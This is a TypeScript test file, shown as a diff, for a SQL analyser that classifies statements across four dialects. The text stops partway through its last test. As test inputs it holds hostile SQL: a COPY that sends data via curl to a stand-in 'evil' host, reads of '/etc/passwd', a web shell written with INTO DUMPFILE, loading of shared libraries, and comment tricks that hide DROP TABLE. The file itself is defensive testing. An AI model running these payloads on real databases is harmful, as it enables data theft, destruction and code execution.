@@ -1,0 +1,498 @@
+import { describe, it, expect, beforeAll } from 'vitest';
+import fc from 'fast-check';
+import {
+  EMPTY_SQL_FACTS,
+  SQL_DIALECTS,
+  SQL_MAX_INPUT,
+  loadSqlParsers,
+  sqlFacet,
+  type SqlDialect,
+  type SqlFacts,
+  type SqlStatementFacts,
+} from '../../src/facets/sql.js';
+
+// Runs before any loadSqlParsers() in this file (vitest runs describes in order, one process per file).
+describe('before loadSqlParsers()', () => {
+  it('refuses PostgreSQL with an error saying to await loadSqlParsers()', () => {
+    const f = sqlFacet('SELECT 1', { dialect: 'postgresql' });
+    expect(f.parsed).toBe(false);
+    expect(f.error).toContain('await loadSqlParsers()');
+    expect(f.dialect).toBe('postgresql');
+  });
+
+  it('parses MySQL already (its grammar loads on first use)', () => {
+    expect(sqlFacet('SELECT 1; DROP TABLE x', { dialect: 'mysql' }).verbs).toEqual(['SELECT', 'DROP']);
+  });
+});
+
+describe('sqlFacet', () => {
+  beforeAll(async () => {
+    await loadSqlParsers();
+    await loadSqlParsers(); // idempotent
+  });
+
+  interface Parsed {
+    d: SqlDialect;
+    sql: string;
+    verbs: string[];
+    tables?: string[];
+    functions?: string[];
+  }
+
+  // Each row pins the exact verbs, tables and functions (absent lists are []).
+  const PARSED: Parsed[] = [
+    // PostgreSQL: benign
+    { d: 'postgresql', sql: 'SELECT id, name FROM users WHERE id = 1', verbs: ['SELECT'], tables: ['users'] },
+    { d: 'postgresql', sql: '/* note */ SELECT 1 -- trailing', verbs: ['SELECT'] },
+    { d: 'postgresql', sql: 'SELECT * FROM generate_series(1, 10) g JOIN t ON t.id = g', verbs: ['SELECT'], tables: ['t'], functions: ['generate_series'] },
+    { d: 'postgresql', sql: 'SELECT extract(epoch FROM now())', verbs: ['SELECT'], functions: ['extract', 'now'] },
+    { d: 'postgresql', sql: 'SELECT current_user, coalesce(a, b) FROM t', verbs: ['SELECT'], tables: ['t'], functions: ['current_user', 'coalesce'] },
+    {
+      d: 'postgresql',
+      sql: "SELECT * FROM users WHERE EXISTS (SELECT 1 FROM orders o WHERE o.uid = users.id AND lower(o.s) = 'x')",
+      verbs: ['SELECT'],
+      tables: ['users', 'orders'],
+      functions: ['lower'],
+    },
+    { d: 'postgresql', sql: 'SELECT a FROM t1 UNION SELECT b FROM s.t2 UNION ALL SELECT upper(c) FROM t3', verbs: ['SELECT'], tables: ['t1', 's.t2', 't3'], functions: ['upper'] },
+    { d: 'postgresql', sql: 'WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10) SELECT * FROM r', verbs: ['SELECT'] },
+    { d: 'postgresql', sql: 'WITH x AS (WITH y AS (SELECT * FROM base) SELECT * FROM y) SELECT * FROM x, other', verbs: ['SELECT'], tables: ['base', 'other'] },
+    { d: 'postgresql', sql: 'SELECT * FROM "Users" JOIN "MySchema"."Orders" ON true', verbs: ['SELECT'], tables: ['users', 'myschema.orders'] },
+    { d: 'postgresql', sql: 'SELECT * FROM pg_catalog.pg_authid', verbs: ['SELECT'], tables: ['pg_catalog.pg_authid'] },
+    { d: 'postgresql', sql: 'SELECT $$; DROP TABLE x; $$', verbs: ['SELECT'] },
+    { d: 'postgresql', sql: 'BEGIN; DELETE FROM t WHERE id = 1; COMMIT', verbs: ['BEGIN', 'DELETE', 'COMMIT'], tables: ['t'] },
+    { d: 'postgresql', sql: 'START TRANSACTION; ROLLBACK', verbs: ['BEGIN', 'ROLLBACK'] },
+    { d: 'postgresql', sql: "INSERT INTO archive SELECT * FROM live WHERE created < now() - interval '1 day'", verbs: ['INSERT'], tables: ['archive', 'live'], functions: ['now'] },
+    // PostgreSQL: every statement counts
+    { d: 'postgresql', sql: 'SELECT 1; DROP TABLE x', verbs: ['SELECT', 'DROP'], tables: ['x'] },
+    { d: 'postgresql', sql: 'dElEtE fRoM Users', verbs: ['DELETE'], tables: ['users'] },
+    { d: 'postgresql', sql: 'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', verbs: ['DELETE'], tables: ['t'] },
+    { d: 'postgresql', sql: 'WITH u AS (UPDATE accounts SET balance = 0 RETURNING id) SELECT count(*) FROM u', verbs: ['UPDATE'], tables: ['accounts'], functions: ['count'] },
+    { d: 'postgresql', sql: 'WITH a AS (INSERT INTO log VALUES (1) RETURNING *), b AS (DELETE FROM t RETURNING *) SELECT 1', verbs: ['INSERT', 'DELETE'], tables: ['log', 't'] },
+    { d: 'postgresql', sql: 'WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets', verbs: ['SELECT'], tables: ['secrets'] },
+    { d: 'postgresql', sql: 'EXPLAIN ANALYZE DELETE FROM t', verbs: ['EXPLAIN', 'DELETE'], tables: ['t'] },
+    { d: 'postgresql', sql: 'EXPLAIN (ANALYZE, FORMAT JSON) UPDATE t SET a = 1', verbs: ['EXPLAIN', 'UPDATE'], tables: ['t'] },
+    { d: 'postgresql', sql: 'SELECT * INTO new_t FROM t', verbs: ['CREATE'], tables: ['new_t', 't'] },
+    { d: 'postgresql', sql: 'CREATE TABLE x AS SELECT * FROM y', verbs: ['CREATE'], tables: ['x', 'y'] },
+    { d: 'postgresql', sql: 'CREATE VIEW v AS SELECT * FROM secret', verbs: ['CREATE'], tables: ['v', 'secret'] },
+    { d: 'postgresql', sql: 'CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM audit', verbs: ['CREATE', 'DELETE'], tables: ['t', 'audit'] },
+    { d: 'postgresql', sql: "COPY t TO PROGRAM 'curl -d @- http://evil'", verbs: ['COPY'], tables: ['t'] },
+    { d: 'postgresql', sql: "COPY t FROM PROGRAM 'id'", verbs: ['COPY'], tables: ['t'] },
+    { d: 'postgresql', sql: "COPY (SELECT * FROM pg_catalog.pg_authid) TO '/tmp/x'", verbs: ['COPY'], tables: ['pg_catalog.pg_authid'] },
+    { d: 'postgresql', sql: 'COPY (DELETE FROM t RETURNING *) TO STDOUT', verbs: ['COPY', 'DELETE'], tables: ['t'] },
+    { d: 'postgresql', sql: "SELECT pg_read_file('/etc/passwd')", verbs: ['SELECT'], functions: ['pg_read_file'] },
+    { d: 'postgresql', sql: "SELECT pg_catalog.pg_read_file('/etc/passwd')", verbs: ['SELECT'], functions: ['pg_catalog.pg_read_file'] },
+    { d: 'postgresql', sql: "SELECT lo_export(1234, '/tmp/x')", verbs: ['SELECT'], functions: ['lo_export'] },
+    { d: 'postgresql', sql: "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", verbs: ['SELECT'], functions: ['dblink'] },
+    { d: 'postgresql', sql: 'SELECT * FROM t WHERE id = 1 AND pg_sleep(10) IS NULL', verbs: ['SELECT'], tables: ['t'], functions: ['pg_sleep'] },
+    { d: 'postgresql', sql: "CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql", verbs: ['CREATE'] },
+    { d: 'postgresql', sql: 'CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM t; SELECT 1; END', verbs: ['CREATE', 'DELETE'], tables: ['t'] },
+    { d: 'postgresql', sql: "DO $$ BEGIN EXECUTE 'DROP TABLE x'; END $$", verbs: ['DO'] },
+    { d: 'postgresql', sql: 'CALL transfer(1, 2)', verbs: ['CALL'], functions: ['transfer'] },
+    { d: 'postgresql', sql: 'SET ROLE postgres', verbs: ['SET'] },
+    { d: 'postgresql', sql: 'RESET ALL', verbs: ['RESET'] },
+    { d: 'postgresql', sql: 'GRANT ALL ON ALL TABLES IN SCHEMA public TO mallory', verbs: ['GRANT'] },
+    { d: 'postgresql', sql: 'REVOKE SELECT ON users FROM app', verbs: ['REVOKE'], tables: ['users'] },
+    { d: 'postgresql', sql: 'TRUNCATE audit_log', verbs: ['TRUNCATE'], tables: ['audit_log'] },
+    { d: 'postgresql', sql: 'ALTER TABLE users ADD COLUMN is_admin boolean', verbs: ['ALTER'], tables: ['users'] },
+    { d: 'postgresql', sql: "ALTER SYSTEM SET log_statement = 'none'", verbs: ['ALTER'] },
+    { d: 'postgresql', sql: 'DROP TABLE a.b, c CASCADE', verbs: ['DROP'], tables: ['a.b', 'c'] },
+    { d: 'postgresql', sql: 'VACUUM FULL big_table', verbs: ['VACUUM'], tables: ['big_table'] },
+    { d: 'postgresql', sql: 'LOCK TABLE accounts IN ACCESS EXCLUSIVE MODE', verbs: ['LOCK'], tables: ['accounts'] },
+    { d: 'postgresql', sql: 'PREPARE p(int) AS DELETE FROM t WHERE id = $1; EXECUTE p(1)', verbs: ['PREPARE', 'DELETE', 'EXECUTE'], tables: ['t'] },
+    { d: 'postgresql', sql: 'CREATE EXTENSION dblink', verbs: ['CREATE'] },
+    { d: 'postgresql', sql: "LOAD '/tmp/evil.so'", verbs: ['LOAD'] },
+    { d: 'postgresql', sql: 'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', verbs: ['MERGE'], tables: ['t', 's'] },
+    { d: 'postgresql', sql: "SELECT 'ok\\d', E'it\\'s'", verbs: ['SELECT'] },
+    { d: 'postgresql', sql: 'SELECT 1; -- c\rDROP TABLE y', verbs: ['SELECT', 'DROP'], tables: ['y'] },
+    { d: 'postgresql', sql: 'SELECT 1 /* /* nested */ ; DROP TABLE x */', verbs: ['SELECT'] },
+    { d: 'postgresql', sql: 'SELECT * FROM "DROP" WHERE "select" = 1', verbs: ['SELECT'], tables: ['drop'] },
+    // MySQL: benign
+    { d: 'mysql', sql: 'SELECT id FROM users WHERE id = 1', verbs: ['SELECT'], tables: ['users'] },
+    { d: 'mysql', sql: 'WITH d AS (SELECT * FROM t) SELECT * FROM d', verbs: ['SELECT'], tables: ['t'] },
+    { d: 'mysql', sql: 'SELECT * FROM `Mixed Case`.`Tbl`', verbs: ['SELECT'], tables: ['mixed case.tbl'] },
+    { d: 'mysql', sql: "SELECT 'O''Brien', 'a\\\\b', 'x\\ny'", verbs: ['SELECT'] },
+    { d: 'mysql', sql: "SELECT 'O\\'Brien' FROM t", verbs: ['SELECT'], tables: ['t'] },
+    { d: 'mysql', sql: 'UPDATE t SET a = (SELECT b FROM u) WHERE c IN (SELECT d FROM w)', verbs: ['UPDATE'], tables: ['t', 'u', 'w'] },
+    { d: 'mysql', sql: 'BEGIN; UPDATE t SET a = 1 WHERE id = 2; COMMIT', verbs: ['BEGIN', 'UPDATE', 'COMMIT'], tables: ['t'] },
+    { d: 'mysql', sql: 'START TRANSACTION; ROLLBACK', verbs: ['BEGIN', 'ROLLBACK'] },
+    { d: 'mysql', sql: 'SELECT 1 /*+ MAX_EXECUTION_TIME(1000) */', verbs: ['SELECT'] },
+    { d: 'mysql', sql: 'SELECT 1 -- ; DROP TABLE x', verbs: ['SELECT'] },
+    { d: 'mysql', sql: 'SELECT 1 --\t; DROP TABLE x', verbs: ['SELECT'] },
+    { d: 'mysql', sql: 'SELECT 1 -- c\r; DROP TABLE y', verbs: ['SELECT'] },
+    { d: 'mysql', sql: 'WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets', verbs: ['SELECT'], tables: ['secrets'] },
+    // MySQL: bypasses
+    { d: 'mysql', sql: 'SELECT 1; DROP TABLE x', verbs: ['SELECT', 'DROP'], tables: ['x'] },
+    { d: 'mysql', sql: 'SELECT 1 --1; DROP TABLE x', verbs: ['SELECT', 'DROP'], tables: ['x'] },
+    { d: 'mysql', sql: 'SELECT 1 # hidden\n; DROP TABLE y', verbs: ['SELECT', 'DROP'], tables: ['y'] },
+    { d: 'mysql', sql: 'SELECT 1 /*! ; DROP TABLE x */', verbs: ['SELECT', 'DROP'], tables: ['x'] },
+    { d: 'mysql', sql: 'SELECT 1 /*!50000 ; DROP TABLE x */', verbs: ['SELECT', 'DROP'], tables: ['x'] },
+    { d: 'mysql', sql: 'SELECT 1 /*!99999 UNION SELECT password FROM mysql.user */', verbs: ['SELECT'], tables: ['mysql.user'] },
+    { d: 'mysql', sql: '/*!DROP TABLE x*/', verbs: ['DROP'], tables: ['x'] },
+    { d: 'mysql', sql: 'SELECT /*!50000 load_file(0x2f6574632f706173737764) */', verbs: ['SELECT'], functions: ['load_file'] },
+    { d: 'mysql', sql: 'dElEtE FROM Users WHERE ID = 1', verbs: ['DELETE'], tables: ['users'] },
+    { d: 'mysql', sql: "SELECT * FROM t INTO OUTFILE '/tmp/x'", verbs: ['WRITE_FILE'], tables: ['t'] },
+    { d: 'mysql', sql: "SELECT 1 INTO DUMPFILE '/var/www/shell.php'", verbs: ['WRITE_FILE'] },
+    { d: 'mysql', sql: "SELECT a FROM t UNION SELECT b FROM u INTO OUTFILE '/tmp/y'", verbs: ['WRITE_FILE'], tables: ['t', 'u'] },
+    { d: 'mysql', sql: "SELECT LOAD_FILE('/etc/passwd')", verbs: ['SELECT'], functions: ['load_file'] },
+    { d: 'mysql', sql: "LOAD DATA INFILE '/etc/passwd' INTO TABLE t", verbs: ['LOAD_FILE'], tables: ['t'] },
+    { d: 'mysql', sql: "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE db.t", verbs: ['LOAD_FILE'], tables: ['db.t'] },
+    { d: 'mysql', sql: 'EXPLAIN DELETE FROM t', verbs: ['EXPLAIN', 'DELETE'], tables: ['t'] },
+    { d: 'mysql', sql: 'EXPLAIN ANALYZE SELECT * FROM t', verbs: ['EXPLAIN', 'SELECT'], tables: ['t'] },
+    { d: 'mysql', sql: 'DESCRIBE secrets', verbs: ['DESCRIBE'], tables: ['secrets'] },
+    { d: 'mysql', sql: "PREPARE s FROM 'DROP TABLE x'; EXECUTE s", verbs: ['PREPARE', 'DROP', 'EXECUTE'], tables: ['x'] },
+    { d: 'mysql', sql: 'PREPARE s FROM @q', verbs: ['PREPARE'] },
+    { d: 'mysql', sql: 'DO SLEEP(5)', verbs: ['DO'], functions: ['sleep'] },
+    { d: 'mysql', sql: "SELECT BENCHMARK(1000000, MD5('a'))", verbs: ['SELECT'], functions: ['benchmark', 'md5'] },
+    { d: 'mysql', sql: "REVOKE ALL PRIVILEGES ON db.* FROM 'u'@'%'", verbs: ['REVOKE'], tables: ['db.*'] },
+    { d: 'mysql', sql: "GRANT ALL ON *.* TO 'u'@'%'", verbs: ['GRANT'], tables: ['*.*'] },
+    { d: 'mysql', sql: "SET GLOBAL general_log = 'ON'", verbs: ['SET'] },
+    { d: 'mysql', sql: 'CALL do_things(1)', verbs: ['CALL'], functions: ['do_things'] },
+    { d: 'mysql', sql: 'USE mysql', verbs: ['USE'] },
+    { d: 'mysql', sql: 'TRUNCATE TABLE sessions', verbs: ['TRUNCATE'], tables: ['sessions'] },
+    { d: 'mysql', sql: 'ALTER TABLE t ADD COLUMN c INT', verbs: ['ALTER'], tables: ['t'] },
+    { d: 'mysql', sql: 'DROP PROCEDURE cleanup', verbs: ['DROP'] },
+    { d: 'mysql', sql: 'KILL 42; FLUSH PRIVILEGES', verbs: ['KILL', 'FLUSH'] },
+    { d: 'mysql', sql: 'REPLACE INTO t VALUES (1)', verbs: ['REPLACE'], tables: ['t'] },
+    { d: 'mysql', sql: "INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE a = load_file('x')", verbs: ['INSERT'], tables: ['t'], functions: ['load_file'] },
+    // MariaDB
+    { d: 'mariadb', sql: 'SELECT * FROM t WHERE a = 1', verbs: ['SELECT'], tables: ['t'] },
+    { d: 'mariadb', sql: 'SELECT 1 /*M!100100 ; DROP TABLE x */', verbs: ['SELECT', 'DROP'], tables: ['x'] },
+    // SQLite: benign
+    { d: 'sqlite', sql: 'SELECT * FROM t WHERE a = 1 LIMIT 5', verbs: ['SELECT'], tables: ['t'] },
+    { d: 'sqlite', sql: 'SELECT * FROM [Order Details] JOIN "Customers" USING (id)', verbs: ['SELECT'], tables: ['order details', 'customers'] },
+    { d: 'sqlite', sql: "INSERT OR REPLACE INTO kv (k, v) VALUES ('a', upper('b'))", verbs: ['INSERT'], tables: ['kv'], functions: ['upper'] },
+    { d: 'sqlite', sql: 'WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT * FROM r', verbs: ['SELECT'] },
+    { d: 'sqlite', sql: 'BEGIN IMMEDIATE; DELETE FROM t WHERE id = 1; END', verbs: ['BEGIN', 'DELETE', 'COMMIT'], tables: ['t'] },
+    { d: 'sqlite', sql: "SELECT * FROM pragma_table_info('users')", verbs: ['SELECT'], functions: ['pragma_table_info'] },
+    { d: 'sqlite', sql: 'SELECT 1 /* DROP TABLE x', verbs: ['SELECT'] },
+    { d: 'sqlite', sql: 'SELECT 1 -- c\rDROP TABLE y', verbs: ['SELECT'] },
+    // SQLite: bypasses
+    { d: 'sqlite', sql: 'PRAGMA writable_schema=1', verbs: ['PRAGMA'] },
+    { d: 'sqlite', sql: "PRAGMA main.writable_schema = ON; UPDATE sqlite_master SET sql = 'x'", verbs: ['PRAGMA', 'UPDATE'], tables: ['sqlite_master'] },
+    { d: 'sqlite', sql: 'PRAGMA table_info(users)', verbs: ['PRAGMA'], tables: ['users'] },
+    { d: 'sqlite', sql: "SELECT 'a\\'; DROP TABLE x; --'", verbs: ['SELECT', 'DROP'], tables: ['x'] },
+    { d: 'sqlite', sql: 'SELECT 1 --x\n; DROP TABLE y', verbs: ['SELECT', 'DROP'], tables: ['y'] },
+    { d: 'sqlite', sql: "ATTACH DATABASE '/tmp/evil.db' AS evil", verbs: ['ATTACH'] },
+    { d: 'sqlite', sql: "SELECT load_extension('/tmp/evil.so')", verbs: ['SELECT'], functions: ['load_extension'] },
+    { d: 'sqlite', sql: "VACUUM INTO '/tmp/copy.db'", verbs: ['VACUUM'] },
+    { d: 'sqlite', sql: 'CREATE TRIGGER tr AFTER INSERT ON t BEGIN DELETE FROM audit; END; SELECT 1', verbs: ['CREATE', 'DELETE', 'SELECT'], tables: ['t', 'audit'] },
+    { d: 'sqlite', sql: 'EXPLAIN QUERY PLAN DELETE FROM t', verbs: ['EXPLAIN', 'DELETE'], tables: ['t'] },
+    { d: 'sqlite', sql: 'dElEtE FROM T', verbs: ['DELETE'], tables: ['t'] },
+  ];
+
+  it.each(PARSED)('$d: $sql', ({ d, sql, verbs, tables = [], functions = [] }) => {
+    const f = sqlFacet(sql, { dialect: d });
+    expect({ parsed: f.parsed, error: f.error, dialect: f.dialect, verbs: f.verbs, tables: f.tables, functions: f.functions }).toEqual({
+      parsed: true,
+      error: '',
+      dialect: d,
+      verbs,
+      tables,
+      functions,
+    });
+  });
+
+  // [dialect, sql, a phrase the error must contain]: each input is refused, never guessed at.
+  const REFUSED: [SqlDialect, string, string][] = [
+    ['postgresql', 'SELECT 1 DR/**/OP TABLE x', 'syntax error'],
+    ['postgresql', 'DR/**/OP TABLE x', 'syntax error'],
+    ['postgresql', 'SELECT 1;\u00a0DROP TABLE x', 'syntax error'],
+    ['postgresql', 'SELECT 1;\u200bDROP TABLE x', 'syntax error'],
+    ['postgresql', '\uff24\uff32\uff2f\uff30 TABLE x', 'syntax error'],
+    ['postgresql', "SELECT 'a\\'' ; DROP TABLE x; --'", 'standard_conforming_strings'],
+    ['postgresql', "SELECT 'C:\\'", 'standard_conforming_strings'],
+    ['postgresql', '-- just a comment', 'no SQL statement'],
+    ['postgresql', '   \n\t ', 'no SQL statement'],
+    ['mysql', 'DR/**/OP TABLE x', 'syntax error at or near "OP TABLE x"'],
+    ['mysql', 'SELECT 1 /* /* nested */ ; DROP TABLE x */', 'statement 2: syntax error'],
+    ['mysql', "SELECT 'a\\'; DROP TABLE x; -- '", 'NO_BACKSLASH_ESCAPES'],
+    ['mysql', 'SELECT "a\\"; DROP TABLE x; -- "', 'NO_BACKSLASH_ESCAPES'],
+    ['mysql', 'SELECT 1 /* unterminated', 'unterminated /* comment'],
+    ['mysql', 'SELECT 1 /*! DROP TABLE x', 'unterminated executable comment'],
+    ['mysql', 'SELECT 1 /*! /* nested */ DROP TABLE x */', 'comment inside an executable comment'],
+    ['mysql', "SELECT 'open", 'unterminated string literal'],
+    ['mysql', 'SELECT 1;\u00a0DROP TABLE x', 'invisible or space-like character U+00A0'],
+    ['mysql', 'DROP TABLE x\u200b', 'U+200B'],
+    ['sqlite', '\ufeffSELECT 1; DR\u00adOP TABLE x', 'U+FEFF'],
+    ['mysql', 'HANDLER t OPEN', 'syntax error'],
+    ['mysql', 'ALTER EVENT e DO DELETE FROM secrets', 'syntax error'],
+    ['mysql', "PREPARE s FROM 'PREPARE t FROM ''DROP TABLE x'''", 'PREPARE inside a prepared statement'],
+    ['mysql', '# only a comment', 'no SQL statement'],
+    ['mariadb', 'SELECT 1 /*M!100100 DROP */', 'syntax error'],
+    ['sqlite', 'SELECT 1 # x', "'#' outside a string"],
+    ['sqlite', 'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', 'syntax error'],
+    ['sqlite', 'PRAGMA foo(bar(1))', 'cannot read this PRAGMA'],
+    ['sqlite', 'VACUUM INTO (SELECT 1)', 'parentheses are not expected'],
+    ['sqlite', 'SELECT `a``b` FROM t', 'backtick'],
+    ['sqlite', 'CREATE TRIGGER tr AFTER INSERT ON t BEGIN SELECT CASE WHEN 1 THEN 2 END; DELETE FROM z; END', 'syntax error'],
+  ];
+
+  it.each(REFUSED)('%s refuses %j', (d, sql, phrase) => {
+    const f = sqlFacet(sql, { dialect: d });
+    expect(f.parsed).toBe(false);
+    expect(f.error).toContain(phrase);
+    expect([f.statements, f.verbs, f.tables, f.functions]).toEqual([[], [], [], []]);
+  });
+
+  const stmt = (s: Partial<SqlStatementFacts> & { verb: string }): SqlStatementFacts => ({
+    tables: [],
+    functions: [],
+    hasWhere: false,
+    object: '',
+    program: false,
+    file: '',
+    nested: false,
+    ...s,
+  });
+
+  // [what the row pins, dialect, sql, every statement expected]
+  const STATEMENTS: [string, SqlDialect, string, SqlStatementFacts[]][] = [
+    [
+      'a data-modifying CTE is a nested statement and the SELECT carrying it takes its verb',
+      'postgresql',
+      'WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d',
+      [stmt({ verb: 'DELETE', tables: ['t'] }), stmt({ verb: 'DELETE', tables: ['t'], hasWhere: true, nested: true })],
+    ],
+    [
+      'EXPLAIN ANALYZE reports the explained statement, nested',
+      'postgresql',
+      'EXPLAIN ANALYZE DELETE FROM t',
+      [stmt({ verb: 'EXPLAIN', tables: ['t'] }), stmt({ verb: 'DELETE', tables: ['t'], nested: true })],
+    ],
+    ['COPY TO PROGRAM sets program and the command', 'postgresql', "COPY t TO PROGRAM 'curl x'", [stmt({ verb: 'COPY', tables: ['t'], program: true, file: 'curl x' })]],
+    ['COPY FROM a server file names the file', 'postgresql', "COPY t FROM '/etc/passwd'", [stmt({ verb: 'COPY', tables: ['t'], file: '/etc/passwd' })]],
+    [
+      'hasWhere follows each statement',
+      'postgresql',
+      'UPDATE t SET a = 1; UPDATE t SET a = 1 WHERE b = 2; DELETE FROM u WHERE CURRENT OF c',
+      [stmt({ verb: 'UPDATE', tables: ['t'] }), stmt({ verb: 'UPDATE', tables: ['t'], hasWhere: true }), stmt({ verb: 'DELETE', tables: ['u'], hasWhere: true })],
+    ],
+    [
+      'a UNION has a WHERE only when every branch has one',
+      'postgresql',
+      'SELECT a FROM t WHERE x UNION SELECT a FROM u; SELECT a FROM t WHERE x UNION SELECT a FROM u WHERE y',
+      [stmt({ verb: 'SELECT', tables: ['t', 'u'] }), stmt({ verb: 'SELECT', tables: ['t', 'u'], hasWhere: true })],
+    ],
+    [
+      'CREATE says what it creates',
+      'postgresql',
+      'CREATE EXTENSION dblink; CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql; CREATE MATERIALIZED VIEW mv AS SELECT 1',
+      [stmt({ verb: 'CREATE', object: 'extension' }), stmt({ verb: 'CREATE', object: 'function' }), stmt({ verb: 'CREATE', object: 'materialized view', tables: ['mv'] })],
+    ],
+    ['SELECT INTO creates a table', 'postgresql', 'SELECT * INTO new_t FROM t', [stmt({ verb: 'CREATE', object: 'table', tables: ['new_t', 't'] })]],
+    ['SET names the setting', 'postgresql', 'SET ROLE postgres', [stmt({ verb: 'SET', object: 'role' })]],
+    ['DROP says what it drops', 'postgresql', 'DROP FUNCTION f(int)', [stmt({ verb: 'DROP', object: 'function' })]],
+    ['INTO OUTFILE names the file', 'mysql', "SELECT * FROM t INTO OUTFILE '/tmp/x'", [stmt({ verb: 'WRITE_FILE', object: 'outfile', tables: ['t'], file: '/tmp/x' })]],
+    ['INTO DUMPFILE names the file', 'mysql', "SELECT 'x' INTO DUMPFILE '/tmp/it''s'", [stmt({ verb: 'WRITE_FILE', object: 'dumpfile', file: "/tmp/it's" })]],
+    ['LOAD DATA names the file it reads', 'mysql', "LOAD DATA INFILE '/etc/passwd' INTO TABLE t", [stmt({ verb: 'LOAD_FILE', object: 'table', tables: ['t'], file: '/etc/passwd' })]],
+    [
+      'a prepared statement text is analysed as nested statements',
+      'mysql',
+      "PREPARE s FROM 'DELETE FROM t WHERE id = ?'",
+      [stmt({ verb: 'PREPARE', tables: ['t'] }), stmt({ verb: 'DELETE', tables: ['t'], hasWhere: true, nested: true })],
+    ],
+    ['REVOKE of a role names no object', 'mysql', "REVOKE admin FROM 'u'@'%'", [stmt({ verb: 'REVOKE' })]],
+    ['REVOKE on a routine names no table', 'mysql', 'REVOKE EXECUTE ON PROCEDURE db.p FROM u', [stmt({ verb: 'REVOKE', object: 'procedure' })]],
+    ['a PRAGMA names the pragma', 'sqlite', 'PRAGMA writable_schema = 1', [stmt({ verb: 'PRAGMA', object: 'writable_schema' })]],
+    ['ATTACH names the database file', 'sqlite', "ATTACH DATABASE '/tmp/evil.db' AS evil", [stmt({ verb: 'ATTACH', object: 'database', file: '/tmp/evil.db' })]],
+    [
+      'a trigger body is nested statements',
+      'sqlite',
+      'CREATE TRIGGER tr AFTER INSERT ON t BEGIN DELETE FROM audit; END',
+      [stmt({ verb: 'CREATE', object: 'trigger', tables: ['t', 'audit'] }), stmt({ verb: 'DELETE', tables: ['audit'], nested: true })],
+    ],
+  ];
+
+  it.each(STATEMENTS)('%s', (_what, d, sql, expected) => {
+    const f = sqlFacet(sql, { dialect: d });
+    expect(f.error).toBe('');
+    expect(f.statements).toEqual(expected);
+  });
+
+  describe('inputs that are not SQL text', () => {
+    const values: [string, unknown, string][] = [
+      ['a number', 42, 'got number'],
+      ['null', null, 'got null'],
+      ['undefined', undefined, 'got undefined'],
+      ['an object', { query: 'SELECT 1' }, 'got object'],
+      ['an array', ['SELECT 1'], 'got array'],
+      ['a String object', new String('SELECT 1'), 'got object'],
+      ['an empty string', '', 'empty SQL string'],
+      ['a NUL character', 'SELECT 1\0; DROP TABLE x', 'NUL character'],
+    ];
+    for (const d of SQL_DIALECTS) {
+      it.each(values)(`${d}: %s is refused with a specific error`, (_what, input, phrase) => {
+        const f = sqlFacet(input, { dialect: d });
+        expect(f.parsed).toBe(false);
+        expect(f.error).toContain(phrase);
+        expect(f.dialect).toBe(d);
+      });
+    }
+
+    it('refuses input one character over SQL_MAX_INPUT and names the limit', () => {
+      const sql = 'SELECT 1' + ' '.repeat(SQL_MAX_INPUT - 7);
+      expect(sql.length).toBe(SQL_MAX_INPUT + 1);
+      const f = sqlFacet(sql, { dialect: 'postgresql' });
+      expect([f.parsed, f.error]).toEqual([false, `SQL is ${SQL_MAX_INPUT + 1} characters; the limit is ${SQL_MAX_INPUT}`]);
+      expect(sqlFacet(sql.slice(1), { dialect: 'postgresql' }).parsed).toBe(false);
+      expect(sqlFacet(sql.slice(0, SQL_MAX_INPUT), { dialect: 'postgresql' }).parsed).toBe(true);
+    });
+
+    it('refuses an unknown dialect and lists the supported ones', () => {
+      const f = sqlFacet('SELECT 1', { dialect: 'oracle' as SqlDialect });
+      expect([f.parsed, f.dialect, f.error]).toEqual([false, '', 'unknown SQL dialect "oracle"; supported: postgresql, mysql, mariadb, sqlite']);
+      expect(sqlFacet('SELECT 1', undefined as unknown as { dialect: SqlDialect }).parsed).toBe(false);
+    });
+  });
+
+  describe('bounds', () => {
+    it('refuses more than 1000 statements', () => {
+      for (const d of SQL_DIALECTS) {
+        const f = sqlFacet('SELECT 1;'.repeat(1001), { dialect: d });
+        expect([d, f.parsed, f.error]).toEqual([d, false, 'more than 1000 statements; split the input']);
+      }
+      for (const d of ['postgresql', 'sqlite'] as const) expect(sqlFacet('SELECT 1;'.repeat(1000), { dialect: d }).statements).toHaveLength(1000);
+    });
+
+    it('refuses MySQL and SQLite parentheses nested past 100 levels before the parser recurses', () => {
+      for (const d of ['mysql', 'mariadb', 'sqlite'] as const) {
+        const deep = sqlFacet('SELECT ' + '('.repeat(101) + '1' + ')'.repeat(101), { dialect: d });
+        expect([deep.parsed, deep.error]).toEqual([false, 'parentheses nested deeper than 100 levels']);
+        expect(sqlFacet('SELECT ' + '('.repeat(100) + '1' + ')'.repeat(100), { dialect: d }).parsed).toBe(true);
+      }
+    });
+
+    it('walks a deep PostgreSQL tree without recursion', () => {
+      const deep = sqlFacet('SELECT ' + 'f('.repeat(600) + '1' + ')'.repeat(600), { dialect: 'postgresql' });
+      expect([deep.parsed, deep.functions]).toEqual([true, ['f']]);
+    });
+
+    it('refuses, before parsing, an operator chain deep enough to overflow the WebAssembly stack, and stays usable', () => {
+      // Unguarded, ~10 000 levels exhaust the stack inside libpg-query; repeated, that corrupts it for every later call.
+      for (const sql of [
+        'SELECT ' + Array(12_000).fill('a').join('+'),
+        'SELECT a' + '::int'.repeat(2_500),
+        'SELECT ' + '(SELECT '.repeat(700) + '1' + ')'.repeat(700),
+        'SELECT ' + 'CASE WHEN a THEN 1 ELSE '.repeat(600) + '1' + ' END'.repeat(600),
+      ]) {
+        const f = sqlFacet(sql, { dialect: 'postgresql' });
+        expect(f.parsed).toBe(false);
